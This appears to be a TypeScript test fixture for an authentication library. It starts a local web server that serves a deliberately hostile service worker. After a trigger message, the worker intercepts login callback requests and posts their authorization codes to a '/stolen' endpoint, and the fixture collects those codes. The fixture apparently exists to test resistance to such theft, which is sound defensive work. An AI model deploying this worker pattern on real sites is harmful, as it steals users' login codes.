import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** Passes on what opens a page, as workers of honest applications do, until a page tells it to keep the codes of logins. */
const worker = `
let steals = false;
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
self.addEventListener('message', ({ ports: [port] }) => { steals = true; port.postMessage('ready'); });
self.addEventListener('fetch', (event) => {
  const { pathname, searchParams } = new URL(event.request.url);
  if (steals && pathname === '/.sallyport/callback') {
    const told = fetch('/stolen', { method: 'POST', body: searchParams.get('code') });
    event.respondWith(told.then(() => new Response('stolen')));
  } else if (event.request.mode === 'navigate') event.respondWith(fetch(event.request));
});`;

const page = '<!doctype html><title>app</title><h1>The application</h1><a href="/.sallyport/logout">Log out</a>';

/** Starts a web application whose worker takes what it can get. `stolen` has the codes that it got. */
export async function startHostileApp() {
  const stolen: string[] = [];
  const server = createServer((request, response) => {
    if (request.url!.endsWith('/sw.js')) {
      response.writeHead(200, { 'content-type': 'text/javascript', 'service-worker-allowed': '/' });
      return void response.end(worker);
    }
    if (request.url === '/stolen')
      return void request.on('data', (code: Buffer) => stolen.push(code.toString())).on('end', () => response.end());
    response.writeHead(200, { 'content-type': 'text/html' });
    response.end(page);
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  return { address: `http://127.0.0.1:${port}`, stolen, close: () => server.close() };
}
